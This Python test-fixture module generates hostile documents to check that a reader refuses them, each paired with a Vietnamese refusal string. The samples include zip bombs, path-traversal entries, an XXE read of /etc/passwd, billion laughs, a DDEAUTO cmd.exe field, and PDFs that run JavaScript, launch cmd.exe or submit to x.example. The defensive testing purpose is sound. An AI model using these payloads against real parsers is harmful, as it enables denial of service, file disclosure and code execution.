"""Files that must never be read, each made here: name → (bytes, what its refusal says).

Most bear the name of an honest file: a name proves nothing."""

import bz2
import functools
import gzip
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import docx
import openpyxl
from pypdf import PdfWriter

from tests.adapters.readers.doc import old_word
from tests.adapters.readers.raw_pdf import flate, raw_pdf

PLAN = (
    "KẾ HOẠCH\n\nLàm đường\n\nI. TỔ CHỨC THỰC HIỆN\n\n"
    "1. Sở Xây dựng chủ trì làm đường.\n\n2. Công an tỉnh giữ trật tự.\n"
)
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_DOCUMENT = "word/document.xml"


@dataclass(frozen=True, slots=True)
class Hostile:
    what: str
    name: str  # as the sender calls it
    make: Callable[[], bytes]
    says: str


def word() -> bytes:
    document = docx.Document()
    for line in PLAN.splitlines():
        document.add_paragraph(line)
    return _saved(document)


def _saved(made) -> bytes:
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def remade(compression: int = zipfile.ZIP_DEFLATED, **changes: bytes | None) -> bytes:
    """The honest document with parts replaced, added or, with None, dropped."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word())) as old, zipfile.ZipFile(buffer, "w", compression) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, content in changes.items():
            if content is not None:
                new.writestr(name, content)
    return buffer.getvalue()


def body(inner: str) -> bytes:
    """word/document.xml around this."""
    return f'<?xml version="1.0"?><w:document {_W}><w:body>{inner}</w:body></w:document>'.encode()


def _document(xml: str | bytes) -> bytes:
    return remade(**{_DOCUMENT: xml if isinstance(xml, bytes) else xml.encode()})


def _archive(**parts: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _relation(kind: str) -> bytes:
    return remade(**{"word/_rels/settings.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r"'
        f' Type="http://x/{kind}" Target="http://x.example/a" TargetMode="External"/></Relationships>'
    ).encode()})  # fmt: skip


def _flagged() -> bytes:
    """Every entry said to be locked."""
    data = bytearray(word())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            struct.pack_into("<H", data, at + offset, 1)
            at = data.find(signature, at + 4)
    return bytes(data)


def _lying() -> bytes:
    """A part that unpacks to more than its header says."""
    data = bytearray(remade(**{"word/media/a.emf": b"\0" * 3_000_000}))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/media/a.emf"))
    struct.pack_into("<I", data, at + 24, 100)
    return bytes(data)


def _overlapping() -> bytes:
    """Many names for one packed part (Fifield, 2019)."""
    data = _archive(a=b"\0" * 1_000_000)
    directory = data.rfind(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    entry = data[directory:end]
    many = b"".join(entry[:46] + bytes([97 + n % 26]) + entry[47:] for n in range(200))
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 200, 200, len(many), directory, 0)
    return data[:directory] + many + tail


def _twice() -> bytes:
    buffer = io.BytesIO(word())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.filelist.append(archive.getinfo(_DOCUMENT))
        archive._didModify = True
    return buffer.getvalue()


def _backslash() -> bytes:
    return remade(**{"word/media/aXb.emf": b"x"}).replace(b"word/media/aXb.emf", b"word\\media\\aXb.emf")


def _locked_pdf(user: str, owner: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user, owner, algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _attached() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("a.exe", b"MZ")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _acting(action: str) -> bytes:
    return raw_pdf(catalog=f"/OpenAction << /S {action} >>")


def _pages(count: int) -> bytes:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(200, 200)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _forms(depth: int, *, itself: bool = False) -> bytes:
    """Drawings that draw drawings: one that draws itself, or each the next one ten times."""
    more = {}
    for n in range(depth):
        below = 10 if itself else 10 + n + 1
        inner = b"/F Do " * (1 if itself else 10) if n < depth - 1 or itself else b"BT /T 9 Tf (a) Tj ET "
        resources = f"/Resources << /XObject << /F {below} 0 R >> /Font << /T 4 0 R >> >>"
        head = f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] {resources} /Length {len(inner)}"
        more[10 + n] = b"<< " + head.encode() + b" >>\nstream\n" + inner + b"\nendstream"
    return raw_pdf(content=b"/F Do", resources="/XObject << /F 10 0 R >>", more=more)


def _picture() -> bytes:
    image = b"<< /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Length 1 >>"
    return raw_pdf(
        content=b"q 500 0 0 800 0 0 cm /I Do Q",
        resources="/XObject << /I 10 0 R >>",
        more={10: image + b"\nstream\n\x80\nendstream"},
    )


def _bomb_pdf() -> bytes:
    """A page whose drawing is one gigabyte: ten megabytes that are compressed once, a hundred times."""
    packer, piece = zlib.compressobj(9, wbits=-15), b" " * 10_000_000
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = functools.reduce(lambda told, _block: zlib.adler32(piece, told), range(100), 1)
    packed = b"\x78\xda" + block * 100 + packer.flush() + checksum.to_bytes(4, "big")
    return raw_pdf(content=packed, filtered=True)


def _looped_tree() -> bytes:
    return raw_pdf(kids="[2 0 R 2 0 R]")


def _old_word(marker: bytes = b"") -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "WordDocument".encode("utf-16-le") + marker + bytes(512)


_TAG = '<?xml version="1.0"?>'
_LAUGHS = (
    _TAG + '<!DOCTYPE a [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]><a>&a9;</a>"
)  # fmt: skip


def files() -> Iterator[Hostile]:
    """All of them."""
    for what, name, make, says in _LISTED:
        yield Hostile(what, name, make, says)


_LISTED: tuple[tuple[str, str, Callable[[], bytes], str], ...] = (
    ("empty", "ke-hoach.docx", lambda: b"", "rỗng"),
    ("white space alone", "ke-hoach.txt", lambda: b" \r\n\t" * 50, "rỗng"),
    ("a mark and nothing", "ke-hoach.txt", lambda: b"\xef\xbb\xbf \n", "không có chữ"),
    ("zeros", "ke-hoach.txt", lambda: bytes(4_000), "không phải văn bản"),
    ("a zero inside a text", "ke-hoach.txt", lambda: (PLAN + "\x00" + PLAN).encode(), "NUL"),
    ("control letters", "ke-hoach.txt", lambda: bytes([1, 2, 3]) * 900, "không phải văn bản"),
    ("every byte", "ke-hoach.txt", lambda: bytes(range(256)) * 20, "không phải văn bản"),
    ("21 MB of text", "ke-hoach.txt", lambda: b"x" * 21_000_000, "quá lớn"),
    ("6 MB of text", "ke-hoach.txt", lambda: b"x" * 6_000_000, "quá lớn"),
    ("halves of surrogates", "ke-hoach.txt", lambda: b"\xff\xfe" + b"\x00\xd8a\x00" * 99, "không phải văn bản"),
    ("two encodings in one", "ke-hoach.txt", lambda: PLAN.encode() + PLAN.encode("utf-16"), "không phải văn bản"),
    ("Latin letters of another tongue", "a.txt", lambda: "Où est la forêt brûlée à Noël".encode("latin-1"), "bảng mã"),
    ("a photograph", "ke-hoach.pdf", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)) * 9, "ảnh"),
    ("a screenshot", "ke-hoach.docx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9, "ảnh"),
    ("a moving picture", "a.txt", lambda: b"GIF89a" + bytes(range(256)) * 9, "ảnh"),
    ("a fax", "a.pdf", lambda: b"II*\x00" + bytes(range(256)) * 9, "ảnh"),
    ("a picture of a telephone", "a.pdf", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(range(256)) * 9, "ảnh"),
    ("RTF", "ke-hoach.docx", lambda: b"{\\rtf1\\ansi K\\u7871? ho\\u7841?ch}", ".rtf"),
    ("a web page", "ke-hoach.docx", lambda: f"<html><body>{PLAN}</body></html>".encode(), "trang web"),
    ("a web page in UTF-16", "a.txt", lambda: f"<!DOCTYPE html><p>{PLAN}".encode("utf-16"), "trang web"),
    ("flat XML", "ke-hoach.docx", lambda: f"{_TAG}<pkg:package>{PLAN}</pkg:package>".encode(), "XML"),
    ("entities in a text file", "ke-hoach.txt", lambda: _LAUGHS.encode(), "XML"),
    ("a drawing with a script", "a.txt", lambda: b"<svg onload='alert(1)'></svg>", "XML"),
    ("a mail", "ke-hoach.docx", lambda: b"MIME-Version: 1.0\nContent-Type: text/html\n\n<p>x</p>", "thư điện tử"),
    ("a program", "ke-hoach.pdf", lambda: b"MZ\x90\x00" + bytes(range(256)) * 20, "chương trình"),
    ("a Linux program", "ke-hoach.txt", lambda: b"\x7fELF\x02\x01" + bytes(range(256)) * 20, "chương trình"),
    ("old Word that is none", "ke-hoach.docx", _old_word, "hỏng"),
    ("old Word cut off", "ke-hoach.doc", lambda: old_word.made(*PLAN.split("\n\n"))[:-600], "hỏng"),
    ("old Word with a password", "ke-hoach.doc", lambda: old_word.made(PLAN, flags=0x0300), "mật khẩu"),
    ("Word 95", "ke-hoach.doc", lambda: old_word.made(PLAN, version=0x0068), "Word 95"),
    ("old Excel", "ke-hoach.doc", lambda: old_word.compound({"Workbook": b"x"}), "kiểu cũ"),
    ("Word with a password", "ke-hoach.docx", lambda: _old_word("EncryptedPackage".encode("utf-16-le")), "mật khẩu"),
    ("RAR", "ke-hoach.docx", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(99), "nén"),
    ("7z", "a.docx", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99), "nén"),
    ("gzip", "a.txt", lambda: gzip.compress(PLAN.encode() * 9), "nén"),
    ("bzip2", "a.txt", lambda: bz2.compress(PLAN.encode() * 9), "nén"),
    ("xz", "a.txt", lambda: lzma.compress(PLAN.encode() * 9), "nén"),
    ("an archive of a text", "ke-hoach.docx", lambda: _archive(**{"ke-hoach.txt": PLAN.encode()}), "nén"),
    ("an empty archive", "ke-hoach.docx", lambda: _archive(), "nén"),
    ("half a document", "ke-hoach.docx", lambda: word()[: len(word()) // 2], "hỏng"),
    ("a document's directory without its parts", "a.docx", lambda: b"PK\x03\x04" + word()[-600:], "hỏng"),
    ("a broken part", "a.docx", lambda: _document("<a>"), "hỏng"),
    ("a bomb, flat", "a.docx", lambda: _document(body("<w:p/>" * 9_000_000)), "bất thường"),
    ("a bomb, 60 MB", "a.docx", lambda: remade(**{"word/media/a.emf": b"0" * 60_000_000}), "bất thường"),
    ("a bomb, nested", "a.docx", lambda: remade(**{"word/media/a.zip": _archive(a=b"0" * 9_000_000)}), "nhúng"),
    ("a bomb of overlapping parts", "a.docx", _overlapping, "hỏng"),
    ("2,100 parts", "a.docx", lambda: remade(**{f"word/media/{n}.emf": b"" for n in range(2_100)}), "quá nhiều"),
    ("a part that lies of its size", "a.docx", _lying, "hỏng"),
    ("a way out of the folder", "a.docx", lambda: remade(**{"../../etc/cron.d/x": b"x"}), "không hợp lệ"),
    ("a way to the root", "a.docx", lambda: remade(**{"/etc/passwd": b"x"}), "không hợp lệ"),
    ("a way out for Windows", "a.docx", _backslash, "không hợp lệ"),
    ("one name twice", "a.docx", _twice, "không hợp lệ|hỏng"),
    ("locked parts", "a.docx", _flagged, "mật khẩu"),
    ("a strange packing", "a.docx", lambda: remade(zipfile.ZIP_LZMA), "nén theo kiểu lạ"),
    ("a macro", "a.docx", lambda: remade(**{"word/vbaProject.bin": b"x"}), "macro"),
    ("a macro document renamed", "a.docx", lambda: remade(**{"[Content_Types].xml": (
        b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')}), "macro"),
    ("an entity that reads a file", "a.docx", lambda: _document(
        f'{_TAG}<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), "DTD"),
    ("a billion laughs", "a.docx", lambda: _document(_LAUGHS), "DTD"),
    ("a document type in UTF-16", "a.docx", lambda: _document(
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")), "DTD"),
    ("an entity in the styles", "a.docx", lambda: remade(**{"word/styles.xml": _LAUGHS.encode()}), "DTD"),
    ("a template from the net", "a.docx", lambda: _relation("attachedTemplate"), "từ mạng"),
    ("a picture from the net", "a.docx", lambda: _relation("image"), "từ mạng"),
    ("an OLE object", "a.docx", lambda: remade(**{"word/embeddings/oleObject1.bin": b"x"}), "nhúng"),
    ("a control", "a.docx", lambda: remade(**{"word/activeX/activeX1.xml": b"<a/>"}), "nhúng"),
    ("a file put in whole", "a.docx", lambda: _document(body('<w:altChunk xmlns:r="urn:r" r:id="x"/>')), "tệp khác"),
    ("a field that runs a program", "a.docx", lambda: _document(
        body('<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>')), "liên kết"),
    ("XML 100,000 deep", "a.docx", lambda: _document(body("<w:p>" * 100_000 + "</w:p>" * 100_000)), "lồng nhau"),
    ("an encoding nobody knows", "a.docx", lambda: _document('<?xml version="1.0" encoding="UTF-7"?><a/>'), "hỏng"),
    ("a workbook", "ke-hoach.docx", lambda: _saved(openpyxl.Workbook()), "bảng tính"),
    ("slides", "a.docx", lambda: _archive(**{"ppt/presentation.xml": b"<a/>"}), "trình chiếu"),
    ("OpenDocument", "a.docx", lambda: _archive(mimetype=b"application/vnd.oasis.opendocument.text"), "OpenDocument"),
    ("Word without its document", "a.docx", lambda: remade(**{_DOCUMENT: None}), "không phải văn bản Word"),
    ("Word without a word", "a.docx", lambda: _document(body("<w:p/>")), "không có chữ"),
    ("PDF, the head alone", "ke-hoach.pdf", lambda: b"%PDF-1.7\n", "hỏng"),
    ("half a PDF", "ke-hoach.pdf", lambda: raw_pdf()[:200], "hỏng"),
    ("PDF of noise", "a.pdf", lambda: b"%PDF-1.4\n" + bytes(range(256)) * 40, "hỏng"),
    ("PDF named otherwise", "ke-hoach.txt", lambda: b"%PDF-1.4\n" + b"<html>" * 99, "hỏng"),
    ("PDF that runs a script", "a.pdf", lambda: _acting("/JavaScript /JS (app.alert\\(1\\))"), "mã lệnh"),
    ("PDF that starts a program", "a.pdf", lambda: _acting("/Launch /F (cmd.exe)"), "mã lệnh"),
    ("PDF that sends itself", "a.pdf", lambda: _acting("/SubmitForm /F (http://x.example)"), "mã lệnh"),
    ("PDF with a file in it", "a.pdf", _attached, "đính kèm"),
    ("PDF with a living form", "a.pdf", lambda: raw_pdf(catalog="/AcroForm << /XFA [(x)] >>"), "biểu mẫu động"),
    ("PDF with a password", "a.pdf", lambda: _locked_pdf("x", "y"), "mật khẩu"),
    ("PDF that may not be copied", "a.pdf", lambda: _locked_pdf("", "y"), "mật khẩu"),
    ("PDF whose pages are a ring", "a.pdf", _looped_tree, "hỏng|phức tạp"),
    ("PDF of no page", "a.pdf", lambda: raw_pdf(kids="[]"), "không có trang|hỏng"),
    ("PDF of 501 pages", "a.pdf", lambda: _pages(501), "500 trang"),
    ("PDF on a sheet of a kilometre", "a.pdf", lambda: raw_pdf(content=b"", box="[0 0 3000000 3000000]"), "khổ giấy"),
    ("PDF of a gigabyte of nothing", "a.pdf", _bomb_pdf, "Hãy"),
    ("PDF that draws itself", "a.pdf", lambda: _forms(1, itself=True), "bản quét|hỏng|phức tạp"),
    ("PDF that draws ten to the twelfth", "a.pdf", lambda: _forms(12), "phức tạp|bộ nhớ|quá nhiều chữ"),
    ("PDF of 150,000 letters a page", "a.pdf", lambda: raw_pdf(
        content=flate(b"BT /T 1 Tf " + b"(aaaaaaaaaa) Tj " * 15_000 + b"ET"), filtered=True), "quá nhiều chữ"),
    ("a scan", "ke-hoach.pdf", _picture, "bản quét"),
    ("blank paper", "a.pdf", lambda: raw_pdf(content=b""), "bản quét"),
)  # fmt: skip
